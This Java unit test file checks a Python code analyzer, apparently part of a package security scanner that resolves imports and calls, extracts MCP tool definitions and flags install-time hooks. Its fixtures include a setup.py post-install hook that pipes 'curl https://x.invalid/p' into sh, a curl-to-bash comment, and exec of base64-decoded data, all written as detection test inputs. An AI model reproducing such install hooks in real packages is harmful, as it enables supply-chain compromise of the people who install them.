package dev.assay.extract.component.code;

import static dev.assay.extract.component.code.Analyze.call;
import static dev.assay.extract.component.code.Analyze.callees;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.assay.engine.fact.CodeCall;
import dev.assay.engine.fact.CodeImport;
import dev.assay.engine.fact.CodeText;
import dev.assay.engine.fact.ManifestScript;
import dev.assay.engine.fact.McpTool;
import java.util.List;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;

class PythonAnalyzerTest {

    private static CodeFacts py(String text) {
        return Analyze.source("pkg/mod.py", Language.PYTHON, text);
    }

    @Test
    void importsKeepModuleNameAndAlias() {
        CodeFacts f = py("import subprocess as sp, os\n"
                + "from os import path as p, system\n"
                + "import os.path\n"
                + "from . import sibling\n"
                + "from .inner import thing as t\n"
                + "from json import *\n");
        List<String> imports = f.imports().stream()
                .map(i -> i.module() + "|" + i.name() + "|" + i.alias() + "|L" + i.line())
                .collect(Collectors.toList());
        assertEquals(List.of("subprocess||sp|L1", "os||os|L1", "os|path|p|L2", "os|system|system|L2",
                "os.path||os|L3", ".|sibling|sibling|L4", ".inner|thing|t|L5", "json|*||L6"), imports);
        assertTrue(f.imports().stream().allMatch(i -> i.language().equals("python")));
    }

    @Test
    void calleesResolveThroughImports() {
        CodeFacts f = py("import subprocess as sp\n"
                + "from os import system as run_it\n"
                + "import urllib.request\n"
                + "import importlib\n"
                + "sp.run(['ls'])\n"
                + "run_it('id')\n"
                + "urllib.request.urlopen('https://x.invalid')\n"
                + "__import__('os').system('id')\n"
                + "importlib.import_module('subprocess').call('id')\n"
                + "getattr(sp, 'Popen')('id')\n"
                + "eval('1+1')\n"
                + "requests.get(u).json()\n"
                + "' '.join(x)\n");
        List<String> callees = callees(f);
        for (String expected : List.of("subprocess.run", "os.system", "urllib.request.urlopen", "os.system",
                "subprocess.call", "subprocess.Popen", "eval", "requests.get().json", "requests.get", "str.join")) {
            assertTrue(callees.contains(expected), expected + " in " + callees);
        }
    }

    @Test
    void callsInsideFormattedStringsAreFoundAndTextInPlainStringsIsNot() {
        CodeFacts f = py("import os\n"
                + "a = f'{os.system(\"id\")}'\n"
                + "b = rf\"{eval('1')}\"\n"
                + "c = F'''{__import__('os').popen('id')}'''\n"
                + "d = 'os.getcwd()' + r'exec(x)' + b'compile(y)' + u\"open(z)\"\n");
        List<String> callees = callees(f);
        for (String expected : List.of("os.system", "eval", "os.popen")) {
            assertTrue(callees.contains(expected), expected + " in " + callees);
        }
        for (String absent : List.of("os.getcwd", "exec", "compile", "open")) {
            assertFalse(callees.contains(absent), absent + " is text, not a call: " + callees);
        }
    }

    @Test
    void argumentsConstantFirstArgAndKeywords() {
        CodeFacts f = py("import subprocess\n"
                + "def handler(cmd):\n"
                + "    subprocess.run(cmd, shell=True, check=False)\n"
                + "    subprocess.run(['git', 'status'], cwd='/tmp')\n"
                + "    subprocess.run(f'echo {cmd}')\n"
                + "    subprocess.run('a' 'b')\n");
        List<CodeCall> runs = Analyze.calls(f, "subprocess.run");
        assertEquals(4, runs.size());
        assertFalse(runs.get(0).argsConstant());
        assertEquals("", runs.get(0).firstArg());
        assertEquals(List.of("shell=True", "check=False", "@0=cmd"), runs.get(0).keywords());
        assertEquals("handler", runs.get(0).function());
        assertEquals(3, runs.get(0).line());
        assertEquals("subprocess.run(cmd, shell=True, check=False)", runs.get(0).snippet());
        assertTrue(runs.get(1).argsConstant());
        assertEquals("['git', 'status']", runs.get(1).firstArg());
        assertFalse(runs.get(2).argsConstant(), "an f-string with a field is not constant");
        assertTrue(runs.get(3).argsConstant());
        assertEquals("ab", runs.get(3).firstArg());
    }

    @Test
    void positionalArgumentsShowTheirResolvedForm() {
        CodeFacts f = py("import base64 as b\n"
                + "exec(b.b64decode(blob))\n"
                + "open(path, 'w')\n"
                + "eval(f'{x}')\n");
        assertEquals(List.of("@0=base64.b64decode()"), call(f, "exec").keywords());
        assertEquals(List.of("@0=path", "@1='w'"), call(f, "open").keywords());
        assertEquals(List.of("@0=str"), call(f, "eval").keywords());
    }

    @Test
    void escapesAreDecodedInFirstArgButNotInRawStrings() {
        CodeFacts f = py("import os\nos.system('\\x63url x')\nos.system(r'\\x63url')\n");
        List<CodeCall> calls = Analyze.calls(f, "os.system");
        assertEquals("curl x", calls.get(0).firstArg());
        assertEquals("\\x63url", calls.get(1).firstArg());
    }

    @Test
    void stringsDocstringsAndCommentsWithLineSpans() {
        CodeFacts f = py("\"\"\"Module doc.\"\"\"\n"
                + "# a comment: curl x | bash\n"
                + "def f():\n"
                + "    '''Function\n"
                + "    doc.'''\n"
                + "    return \"value\"\n"
                + "class C:\n"
                + "    \"class doc\"\n");
        List<String> texts = f.texts().stream()
                .map(t -> t.kind() + ":" + t.text().strip() + ":" + t.lineStart() + "-" + t.lineEnd())
                .collect(Collectors.toList());
        assertEquals(List.of("docstring:Module doc.:1-1", "comment:# a comment: curl x | bash:2-2",
                "docstring:Function\n    doc.:4-5", "string:value:6-6", "docstring:class doc:8-8"), texts);
        CodeText doc = f.texts().get(2);
        assertTrue(doc.covers(5) && !doc.covers(6));
    }

    @Test
    void enclosingFunctionNames() {
        CodeFacts f = py("top()\n"
                + "def outer():\n"
                + "    inner_call()\n"
                + "    def inner():\n"
                + "        deep()\n"
                + "    after()\n"
                + "lam = lambda: in_lambda()\n");
        assertEquals("", call(f, "top").function());
        assertEquals("outer", call(f, "inner_call").function());
        assertEquals("inner", call(f, "deep").function());
        assertEquals("outer", call(f, "after").function());
        assertEquals("<lambda>", call(f, "in_lambda").function());
    }

    @Test
    void fastMcpToolsFromDecorators() {
        CodeFacts f = py("from mcp.server.fastmcp import FastMCP\n"
                + "mcp = FastMCP('demo')\n"
                + "@mcp.tool()\n"
                + "def read_file(path: str, limit: int = 10) -> str:\n"
                + "    \"\"\"Read a file from disk.\"\"\"\n"
                + "    return open(path).read()\n"
                + "@mcp.tool(name='search', description='Search the web')\n"
                + "async def web(q: str, ctx: Context):\n"
                + "    return q\n"
                + "@mcp.tool(description=DESCRIPTIONS[0])\n"
                + "def computed():\n"
                + "    pass\n");
        assertTrue(f.usesMcpSdk());
        assertTrue(callees(f).contains("mcp.server.fastmcp.FastMCP"));
        List<McpTool> tools = f.tools();
        assertEquals(3, tools.size());
        assertEquals("read_file", tools.get(0).name());
        assertEquals("Read a file from disk.", tools.get(0).description());
        assertEquals("{\"type\":\"object\",\"properties\":{\"path\":{\"type\":\"string\"},\"limit\":{\"type\":"
                + "\"integer\"}},\"required\":[\"path\"]}", tools.get(0).inputSchema());
        assertFalse(tools.get(0).dynamic());
        assertEquals(3, tools.get(0).line());
        assertEquals("search", tools.get(1).name());
        assertEquals("Search the web", tools.get(1).description());
        assertFalse(tools.get(1).inputSchema().contains("ctx"), "a Context parameter is not a tool argument");
        assertTrue(tools.get(2).dynamic(), "a computed description is dynamic");
    }

    @Test
    void lowLevelToolDefinitionsAndRuntimeRegistration() {
        CodeFacts f = py("from mcp import types\n"
                + "from mcp.server import Server\n"
                + "server = Server('x')\n"
                + "@server.list_tools()\n"
                + "async def list_tools():\n"
                + "    return [types.Tool(name='run', description='Run a command',\n"
                + "                       inputSchema={'type': 'object', 'properties': {'cmd': {'type': 'string'}}})]\n"
                + "@server.call_tool()\n"
                + "async def call_tool(name, arguments):\n"
                + "    server.add_tool(later, name='late', description='added at run time')\n");
        List<McpTool> tools = f.tools();
        McpTool run = tools.stream().filter(t -> t.name().equals("run")).findFirst().orElseThrow();
        assertEquals("Run a command", run.description());
        assertEquals("{\"type\":\"object\",\"properties\":{\"cmd\":{\"type\":\"string\"}}}", run.inputSchema());
        assertFalse(run.dynamic());
        McpTool late = tools.stream().filter(t -> t.name().equals("late")).findFirst().orElseThrow();
        assertTrue(late.dynamic(), "registered inside a call_tool handler");
    }

    @Test
    void plainCodeIsNotAnMcpServer() {
        CodeFacts f = py("import requests\n@app.route('/x')\ndef x():\n    return requests.get('https://x.invalid').text\n");
        assertFalse(f.usesMcpSdk());
        assertTrue(f.tools().isEmpty());
    }

    @Test
    void setupPyCmdclassAndInstallTimeCalls() {
        CodeFacts f = Analyze.source("setup.py", Language.PYTHON, "import os, subprocess\n"
                + "from setuptools import setup\n"
                + "from setuptools.command.install import install\n"
                + "class PostInstall(install):\n"
                + "    def run(self):\n"
                + "        install.run(self)\n"
                + "        subprocess.call(['sh', '-c', 'curl https://x.invalid/p | sh'])\n"
                + "def helper():\n"
                + "    os.system('id')\n"
                + "def unused():\n"
                + "    os.system('never called at install')\n"
                + "helper()\n"
                + "os.system('echo top')\n"
                + "setup(name='demo-pkg', version='1.0', cmdclass={'install': PostInstall})\n");
        List<String> scripts = f.scripts().stream().map(s -> s.ecosystem() + "|" + s.hook() + "|" + s.command()
                + "|L" + s.line()).collect(Collectors.toList());
        assertEquals(List.of("pypi|cmdclass:install|PostInstall|L14",
                "pypi|cmdclass:install|subprocess.call(['sh', '-c', 'curl https://x.invalid/p | sh'])|L7",
                "pypi|setup.py|os.system('id')|L9", "pypi|setup.py|os.system('echo top')|L13"), scripts);
    }

    @Test
    void benignSetupPyHasNoInstallScripts() {
        CodeFacts f = Analyze.source("setup.py", Language.PYTHON, "from setuptools import setup, find_packages\n"
                + "with open('README.md') as fh:\n"
                + "    long_description = fh.read()\n"
                + "setup(name='fine', version='2.0', packages=find_packages(), long_description=long_description)\n");
        assertEquals(List.<ManifestScript>of(), f.scripts());
    }

    @Test
    void onlySetupPyGetsManifestScripts() {
        CodeFacts f = py("import os\nos.system('echo top')\n");
        assertTrue(f.scripts().isEmpty());
        assertEquals(1, f.imports().size());
        CodeImport os = f.imports().get(0);
        assertEquals("import os", os.snippet());
    }
}
